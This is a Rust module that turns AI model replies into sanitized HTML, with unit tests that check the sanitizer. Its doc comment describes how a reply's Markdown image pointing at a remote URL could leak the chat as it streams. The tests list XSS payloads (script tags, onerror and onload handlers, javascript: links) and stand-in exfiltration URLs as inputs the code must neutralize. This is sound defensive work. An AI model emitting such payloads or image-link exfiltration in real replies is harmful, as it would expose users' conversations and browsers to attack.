//! Model output to safe HTML: Markdown rendered with pulldown-cmark, then
//! sanitized with ammonia, so a reply can never inject markup that runs
//! (scripts, event handlers, `javascript:` links, iframes, styles) nor make
//! the browser fetch anything: images become links (a reply's
//! `![](https://x/?q=<the chat>)` would otherwise send the chat away as it
//! streams), and `<img>` is not kept. Links are absolute `http(s)`/`mailto`
//! only, never to the app's widget view (`embed=`), and open in a new tab with no
//! referrer (the widget's frame never navigates: `embed.js` replaces a frame
//! that does).

use std::borrow::Cow;

use pulldown_cmark::{html, Event, Options, Parser, Tag, TagEnd};

/// Renders `markdown` to sanitized HTML.
pub fn to_safe_html(markdown: &str) -> String {
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut raw = String::with_capacity(markdown.len() * 3 / 2);
    // An image is written as a link to it, its alt text as the link's text.
    let events = Parser::new_ext(markdown, options).map(|event| match event {
        Event::Start(Tag::Image { link_type, dest_url, title, id }) => Event::Start(Tag::Link { link_type, dest_url, title, id }),
        Event::End(TagEnd::Image) => Event::End(TagEnd::Link),
        other => other,
    });
    html::push_html(&mut raw, events);
    ammonia::Builder::default()
        .rm_tags(["img"])
        .url_schemes(["http", "https", "mailto"].into())
        .url_relative(ammonia::UrlRelative::Deny)
        .attribute_filter(|_, attribute, value| {
            // A link may not open the widget view (which would download a model).
            if attribute == "href" && value.to_ascii_lowercase().contains("embed=") {
                None
            } else {
                Some(Cow::Borrowed(value))
            }
        })
        .link_rel(Some("noopener noreferrer nofollow"))
        // In a tab of their own: the page (or the widget's frame) stays.
        .set_tag_attribute_value("a", "target", "_blank")
        .add_generic_attributes(["align"])
        .clean(&raw)
        .to_string()
}

#[cfg(test)]
mod tests {
    use super::to_safe_html;

    #[test]
    fn markdown_renders() {
        let html = to_safe_html("# Title\n\n**bold** and `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |");
        assert!(html.contains("<h1>Title</h1>"), "{html}");
        assert!(html.contains("<strong>bold</strong>"), "{html}");
        assert!(html.contains("<code>code</code>"), "{html}");
        assert!(html.contains("<table>"), "{html}");
    }

    #[test]
    fn scripts_and_handlers_are_removed() {
        for evil in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "[click](javascript:alert(1))",
            "<iframe src=\"https://example.com\"></iframe>",
            "<a href=\"#\" onclick=\"alert(1)\">x</a>",
            "<svg onload=alert(1)>",
            "<div style=\"position:fixed\">x</div>",
        ] {
            let html = to_safe_html(evil);
            let lower = html.to_lowercase();
            for bad in ["<script", "onerror", "onclick", "onload", "javascript:", "<iframe", "style="] {
                assert!(!lower.contains(bad), "{evil:?} rendered as {html:?}");
            }
        }
    }

    #[test]
    fn nothing_remote_is_fetched_images_become_links() {
        let html = to_safe_html(
            "see ![the chat](https://x.example/?q=secret) and <img src=\"https://x.example/a.png\"> \
                                 <video src=\"https://x.example/v\"></video><audio src=\"https://x.example/a\"></audio> \
                                 <link rel=stylesheet href=\"https://x.example/s.css\"><object data=\"https://x.example/o\"></object>",
        );
        let lower = html.to_lowercase();
        for bad in ["<img", "src=", "<video", "<audio", "<link", "<object", "<style", "srcset", "<source"] {
            assert!(!lower.contains(bad), "{bad} in {html}");
        }
        assert!(
            html.contains(r#"<a href="https://x.example/?q=secret" target="_blank" rel="noopener noreferrer nofollow">the chat</a>"#),
            "{html}"
        );
    }

    #[test]
    fn links_cannot_open_the_widget_view_or_be_relative() {
        for evil in [
            "[x](?embed=1&model=https://evil.example/m.gguf)",
            "[x](/?EMBED=1)",
            "[x](https://sprig.example/?embed=1)",
            "[x](../app)",
            "<a href=\"/?embed=1\">x</a>",
        ] {
            let html = to_safe_html(evil);
            assert!(!html.contains("href"), "{evil:?} rendered as {html:?}");
            assert!(html.contains('x'), "{evil:?} keeps its text: {html:?}");
        }
        assert!(to_safe_html("[docs](https://example.com/a?b=1)").contains(r#"href="https://example.com/a?b=1""#));
        assert!(to_safe_html("<mailto:a@example.com>").contains(r#"href="mailto:a@example.com""#));
        // A reply's own target is replaced: links open a new tab, never this page or its parent.
        assert!(to_safe_html(r#"<a href="https://example.com/" target="_top">x</a>"#).contains(r#"target="_blank""#));
        assert!(!to_safe_html(r#"<a href="https://example.com/" target="_top">x</a>"#).contains("_top"));
    }

    #[test]
    fn code_blocks_keep_their_text_escaped() {
        let html = to_safe_html("```html\n<script>alert(1)</script>\n```");
        assert!(html.contains("&lt;script&gt;"), "{html}");
    }
}
